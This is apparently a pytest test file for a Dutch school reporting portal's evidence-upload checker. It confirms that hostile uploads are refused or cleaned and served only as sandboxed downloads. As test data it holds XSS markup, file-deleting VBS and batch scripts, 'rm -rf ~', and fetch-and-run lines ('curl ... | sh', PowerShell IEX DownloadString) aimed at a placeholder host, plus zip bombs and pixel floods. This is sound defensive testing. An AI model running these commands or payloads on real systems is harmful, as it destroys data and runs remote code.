"""Hostile evidence: every file is refused or cleaned, and nothing is ever served in a runnable form.

The table is what an attacker (or a careless phone) sends; a new trick is a new row.
"""

from __future__ import annotations

import importlib
import io
import json
import os
import subprocess
import sys
import time

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.db.migrations.executor import MigrationExecutor
from django.urls import reverse
from django.utils import timezone
from PIL import Image
from pypdf import PdfReader

from reports.constants import TimelineKind
from reports.evidence import evidence_check
from reports.models import Evidence, Report, TimelineEntry

from . import evidence_files as files
from .factories import ReportFactory
from .test_views import form_data

pytestmark = pytest.mark.django_db

HTML = b"<!DOCTYPE html><html><body><script>fetch('/cases/').then(r => r.text()).then(alert)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>'
VBS = b'Set shell = CreateObject("WScript.Shell")\r\nshell.Run "cmd /c del /q %USERPROFILE%\\Documents\\*"\r\n'
CHAT = "Noor: jij bent echt een loser 😡\r\nSem:\thaha ja\r\nNoor: zeg het niet tegen de juf <3\r\n".encode()

MARKUP = "HTML, XML, SVG en RTF nemen we niet aan"
SCRIPT = "dit bestand bevat een script (programmacode)"
ARCHIVE = "archieven en Office-bestanden (zoals .zip, .docx of .xlsm) nemen we niet aan"
OFFICE = "Office-bestanden (zoals .doc, .xls of .rtf) nemen we niet aan"
PROGRAM = "programma's nemen we niet aan"
NOT_TAKEN = "dit soort bestand nemen we niet aan"
TOO_LARGE = "de afbeelding is te groot (meer dan 25 megapixel)"

# (the name the reporter gave, the content or how to make it when the test runs, why it is refused)
REFUSED = [
    ("foto.jpg", HTML, MARKUP),  # HTML disguised as a photo
    ("chat.html", HTML, MARKUP),
    ("tekening.svg", SVG, MARKUP),
    ("tekening.png", SVG, MARKUP),
    ("data.txt", b'<?xml version="1.0"?><bericht>hoi</bericht>', MARKUP),
    ("chat.txt", b"<b onmouseover=alert(1)>klik</b>", MARKUP),
    ("brief.rtf", rb"{\rtf1\ansi{\object\objemb{\*\objdata 0105000002000000}}}", OFFICE),
    ("brief.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, OFFICE),
    ("brief.docm", lambda: files.office_with_macros("docm"), ARCHIVE),
    ("begroting.xlsm", lambda: files.office_with_macros("xlsm"), ARCHIVE),
    ("fotos.zip", lambda: files.zip_bomb(zeros_mb=100), ARCHIVE),  # 100 MB of zeros in about 100 KB
    ("chat.txt.gz", lambda: files.gzip_bomb(zeros_mb=100), ARCHIVE),
    ("fotos.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 64, ARCHIVE),
    ("fotos.rar", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64, ARCHIVE),
    ("foto.jpg", files.EXECUTABLE, PROGRAM),  # MZ: a Windows program
    ("chat.txt", b"\x7fELF\x02\x01\x01" + b"\x00" * 100, PROGRAM),
    ("lief.vbs", VBS, SCRIPT),
    ("factuur.js", b'var s = new ActiveXObject("WScript.Shell"); s.Run("calc");', SCRIPT),
    ("update.ps1", b"IEX (New-Object Net.WebClient).DownloadString('https://example.invalid/a')", SCRIPT),
    ("start.bat", b"@echo off\r\ndel /q %USERPROFILE%\\Documents\\*\r\n", SCRIPT),
    ("chat.txt", b"#!/bin/sh\nrm -rf ~\n", SCRIPT),
    ("uitleg.txt", b"Doe dit: curl -s https://example.invalid/x | sh", SCRIPT),
    ("chat.txt", b"gekleurd \x1b[31mrood\x1b[0m", NOT_TAKEN),  # control characters are not plain text
    ("chat.txt", "chat in UTF-16".encode("utf-16"), NOT_TAKEN),
    ("scherm.png", lambda: files.png_of_black(7000, 7000), TOO_LARGE),  # 49 megapixels in 143 KB
    ("scherm.jpg", lambda: files.jpeg_claiming(65000, 65000), TOO_LARGE),  # a pixel flood: 4 gigapixels claimed
    ("plaatje.gif", b"GIF89a=alert(document.domain)//", "de afbeelding is beschadigd"),
    ("verslag.pdf", b"%PDF-1.7\n" + b"garbage " * 50, "deze PDF kunnen we niet lezen"),
    ("verslag.pdf", lambda: files.pdf_with_password(), "deze PDF is met een wachtwoord beveiligd"),
    ("foto.heic", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", "dit soort afbeelding nemen we niet aan"),
]


@pytest.mark.parametrize(("name", "content", "reason"), REFUSED, ids=[f"{n}:{r[:20]}" for n, _, r in REFUSED])
def test_a_hostile_file_is_refused_with_a_dutch_message_naming_it(name, content, reason):
    content = content() if callable(content) else content
    with pytest.raises(ValidationError) as refused:
        evidence_check(SimpleUploadedFile(name, content))
    (message,) = refused.value.messages
    assert message.startswith(f"{name} is niet toegevoegd: ")
    assert reason in message


def test_a_gif_that_is_also_a_script_comes_back_as_a_png_without_the_script():
    polyglot = files.gif_js_polyglot()
    assert polyglot[:4] == b"GIF8" and polyglot[6:8] == b"/*" and b"alert('gif-polyglot')" in polyglot
    checked = evidence_check(SimpleUploadedFile("plaatje.gif", polyglot))
    assert checked.kind == "image" and checked.content_type == "image/png" and checked.extension == ".png"
    assert checked.content.startswith(b"\x89PNG") and b"alert" not in checked.content
    assert Image.open(io.BytesIO(checked.content)).size == (0x2A2F, 1)


def test_a_pdf_loses_its_metadata_scripts_actions_and_attachments_but_keeps_its_page():
    hostile = files.pdf_with_metadata_and_scripts()
    assert all(marker in hostile for marker in files.PDF_HOSTILE_MARKERS)
    original = PdfReader(io.BytesIO(hostile))
    assert original.metadata["/Author"] == "Karin Bakker" and original.xmp_metadata is not None
    checked = evidence_check(SimpleUploadedFile("verslag.pdf", hostile))
    assert checked.kind == "pdf" and checked.content_type == "application/pdf"
    assert [marker for marker in files.PDF_HOSTILE_MARKERS if marker in checked.content] == []
    cleaned = PdfReader(io.BytesIO(checked.content))
    assert cleaned.metadata is None and cleaned.xmp_metadata is None
    assert set(cleaned.trailer["/Root"]) == {"/Type", "/Pages"}  # no scripts, OpenAction, forms, files
    (page,) = cleaned.pages
    assert "Schermafdruk van de chat" in page.extract_text()
    assert "/AA" not in page and "/Metadata" not in page
    (link,) = [annotation.get_object() for annotation in page["/Annots"]]  # the attachment is gone
    assert link["/Subtype"] == "/Link" and "/A" not in link


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("chat.txt", CHAT),
        ("chat.html", CHAT),  # plain text under any name stays plain text, served as .txt
        ("notities.txt", b"De evaluatie (groep 7) was medieval; cmdr Noor zei a < b en c > d."),
        ("chat.txt", "\ufeffMet BOM en een tab\there.".encode()),
    ],
)
def test_plain_text_is_taken_as_it_is(name, content):
    checked = evidence_check(SimpleUploadedFile(name, content))
    assert checked.kind == "text" and checked.content == content
    assert checked.content_type == "text/plain; charset=utf-8" and checked.extension == ".txt"


def test_a_large_text_is_checked_in_reasonable_time():
    # Ten megabytes built to make a naive pattern backtrack: one '<' after another.
    started = time.monotonic()
    checked = evidence_check(SimpleUploadedFile("chat.txt", b"< " * (5 * 1024 * 1024)))
    assert checked.kind == "text" and time.monotonic() - started < 8


def test_the_pixel_limit_is_a_setting(settings):
    settings.EVIDENCE_MAX_IMAGE_PIXELS = 1_000_000
    assert evidence_check(SimpleUploadedFile("a.png", files.png_of_black(1000, 1000))).kind == "image"
    with pytest.raises(ValidationError, match="meer dan 1 megapixel"):
        evidence_check(SimpleUploadedFile("b.png", files.png_of_black(1001, 1000)))


# Memory: the limit is checked from the header, before a pixel is decoded ------------------------

MEASURE = """
import json, resource, sys
import django
django.setup()
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from reports.evidence import evidence_check
data = open(sys.argv[1], "rb").read()
upload = SimpleUploadedFile(sys.argv[2], data)
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    outcome = evidence_check(upload).kind
except ValidationError as refused:
    outcome = refused.messages[0]
grown_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
print(json.dumps({"outcome": outcome, "grown_mb": grown_kb / 1024}))
"""


def _check_in_a_fresh_process(tmp_path, name: str, content: bytes) -> dict:
    """evidence_check in a new interpreter; returns its outcome and how much its peak memory grew."""
    path = tmp_path / name
    path.write_bytes(content)
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "skow_portal.settings_test", "EVIDENCE_MAX_IMAGE_PIXELS": "25000000"}
    done = subprocess.run(
        [sys.executable, "-c", MEASURE, str(path), name],
        cwd=settings.BASE_DIR,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    return json.loads(done.stdout.strip().splitlines()[-1])


@pytest.mark.parametrize(
    ("name", "build"),
    [
        ("scherm.png", lambda: files.png_of_black(7000, 7000)),  # 49 megapixels: 196 MB decoded
        ("scherm.jpg", lambda: files.jpeg_claiming(30000, 30000)),
        ("fotos.zip", lambda: files.zip_bomb(zeros_mb=100)),
    ],
    ids=["png-49-megapixel", "jpeg-900-megapixel", "zip-100-megabyte"],
)
def test_a_bomb_is_refused_without_unpacking_it(tmp_path, name, build):
    content = build()
    assert len(content) < 200 * 1024
    result = _check_in_a_fresh_process(tmp_path, name, content)
    assert result["outcome"].startswith(f"{name} is niet toegevoegd")
    assert result["grown_mb"] < 10


def test_the_largest_image_taken_costs_bounded_memory(tmp_path):
    # 25 megapixels is the most we decode: about 4 bytes a pixel, once.
    result = _check_in_a_fresh_process(tmp_path, "scherm.png", files.png_of_black(5000, 5000))
    assert result["outcome"] == "image"
    assert result["grown_mb"] < 160


# Served: always a download under the portal's name, never runnable in the portal's origin ------


def test_files_that_got_in_are_served_only_as_downloads_under_the_portals_name(
    client, school, school_leader, logged_in
):
    uploads = [
        SimpleUploadedFile("plaatje.gif", files.gif_js_polyglot(), content_type="image/gif"),
        SimpleUploadedFile(
            "bewijs van Noor.pdf", files.pdf_with_metadata_and_scripts(), content_type="application/pdf"
        ),
        SimpleUploadedFile("bewijs.html", CHAT, content_type="text/html"),
        SimpleUploadedFile("chat.txt", CHAT, content_type="text/plain"),
    ]
    response = client.post(reverse("reports:new"), {**form_data(school), "evidence": uploads})
    assert response.status_code == 302
    report = Report.objects.get()
    number = report.case.number
    logged_in(school_leader)
    case_page = client.get(reverse("reports:case_detail", args=[report.case.pk])).content.decode()
    assert not [upload.name for upload in uploads if upload.name in case_page]  # the reporter's names are gone
    expected = [
        ("1.png", "image/png"),
        ("2.pdf", "application/pdf"),
        ("3.txt", "text/plain; charset=utf-8"),
        ("4.txt", "text/plain; charset=utf-8"),
    ]
    for item, (suffix, content_type) in zip(report.evidence.order_by("pk"), expected, strict=True):
        name = f"melding-{number}-{suffix}"
        assert item.file_name == name and name in case_page
        response = client.get(reverse("reports:evidence", args=[report.case.pk, item.pk]) + "?shown=1")
        body = b"".join(response.streaming_content)
        assert response.status_code == 200
        assert response["Content-Type"] == content_type
        assert response["Content-Disposition"] == f'attachment; filename="{name}"'
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"
        assert response["Cache-Control"] == "private, no-store"
        assert b"alert" not in body and b"/JavaScript" not in body and b"Karin Bakker" not in body
        opened = TimelineEntry.objects.filter(case=report.case, kind=TimelineKind.VIEW, data__evidence_id=item.pk)
        assert [entry.summary for entry in opened] == [name]
    received = TimelineEntry.objects.filter(case=report.case, kind=TimelineKind.EVIDENCE).order_by("pk")
    assert [entry.summary for entry in received] == [f"melding-{number}-{suffix}" for suffix, _ in expected]


def test_a_hostile_file_beside_a_good_one_keeps_the_form_and_stores_nothing(client, school, school_leader):
    data = form_data(school, description="In de groepsapp stuurde hij dit bestand rond.")
    uploads = [
        SimpleUploadedFile("foto.jpg", HTML, content_type="image/jpeg"),
        SimpleUploadedFile("scherm.png", files.screenshot_png(), content_type="image/png"),
    ]
    response = client.post(reverse("reports:new"), {**data, "evidence": uploads})
    assert response.status_code == 400
    page = response.content.decode()
    assert "foto.jpg is niet toegevoegd: HTML, XML, SVG en RTF nemen we niet aan" in page
    assert "In de groepsapp stuurde hij dit bestand rond." in page
    assert "Kies de bestanden die wel goed waren opnieuw" in page
    assert not Report.objects.exists() and not Evidence.objects.exists()


def test_numbers_go_on_across_messages_and_stay_unique_after_a_merge(school, school_leader):
    from reports.evidence import CheckedFile
    from reports.services import case_merge, report_reply_by_reporter

    text = CheckedFile("text", "text/plain; charset=utf-8", ".txt", b"bericht")
    first, second = ReportFactory(school=school), ReportFactory(school=school)
    report_reply_by_reporter(report=first, body="een", evidence=[text, text])
    report_reply_by_reporter(report=second, body="twee", evidence=[text])
    case_merge(source=second.case, target=first.case, by=school_leader)
    report_reply_by_reporter(report=first, body="drie", evidence=[text])
    names = list(Evidence.objects.order_by("pk").values_list("file_name", flat=True))
    a, b = first.case.number, second.case.number
    assert names == [f"melding-{a}-1.txt", f"melding-{a}-2.txt", f"melding-{b}-1.txt", f"melding-{a}-4.txt"]


# The migration that drops the original names ------------------------------------------------------


def test_the_migration_gives_old_files_and_their_timeline_lines_the_portals_name(school):
    # The models as they were before the vault (0009 seals the texts): the migration ran on plain text.
    migration = importlib.import_module("reports.migrations.0006_evidence_file_name")
    before_vault = MigrationExecutor(connection).loader.project_state(("reports", "0007_case_person")).apps
    HistoricalEvidence = before_vault.get_model("reports", "Evidence")
    HistoricalTimelineEntry = before_vault.get_model("reports", "TimelineEntry")

    def timeline_add(case, kind, summary, data):
        # In SQL: today's table has columns (with_whom, the hash chain's) the old model does not know.
        with connection.cursor() as cursor:
            cursor.execute(
                "INSERT INTO reports_timelineentry (case_id, kind, summary, with_whom, data, created_at, chain_digest)"
                " VALUES (%s, %s, %s, '', %s, %s, '') RETURNING id",
                [case.pk, kind, summary, json.dumps(data), timezone.now()],
            )
            return HistoricalTimelineEntry.objects.get(pk=cursor.fetchone()[0])

    report = ReportFactory(school=school)
    later = ReportFactory(school=school)
    old = {}
    for item_report, kind, content_type, placeholder in (
        (report, "image", "image/jpeg", "a"),
        (report, "text", "text/plain; charset=utf-8", "b"),
        (later, "pdf", "application/pdf", "c"),
    ):
        item = HistoricalEvidence.objects.create(
            report_id=item_report.pk,
            kind=kind,
            file_name=placeholder,
            stored_name=f"stored-{placeholder}",
            content_type=content_type,
            size=1,
            sha256="0" * 64,
        )
        old[placeholder] = item
        for timeline_kind in (TimelineKind.EVIDENCE, TimelineKind.VIEW):
            timeline_add(
                item_report.case, timeline_kind, f"IMG_2041 van Noor ({placeholder}).html", {"evidence_id": item.pk}
            )
    gone = timeline_add(report.case, TimelineKind.VIEW, "x.html", {"evidence_id": 0})
    note = timeline_add(report.case, TimelineKind.NOTE, "IMG_2041 besproken", {})

    migration.name_evidence(before_vault, None)

    expected = {
        "a": f"melding-{report.case.number}-1.jpg",
        "b": f"melding-{report.case.number}-2.txt",
        "c": f"melding-{later.case.number}-1.pdf",
    }
    for placeholder, name in expected.items():
        item = HistoricalEvidence.objects.get(pk=old[placeholder].pk)
        assert item.file_name == name
        summaries = HistoricalTimelineEntry.objects.filter(data__evidence_id=item.pk).values_list("summary", flat=True)
        assert list(summaries) == [name, name]
    assert HistoricalTimelineEntry.objects.get(pk=gone.pk).summary == ""
    assert HistoricalTimelineEntry.objects.get(pk=note.pk).summary == "IMG_2041 besproken"  # a handler's own words stay
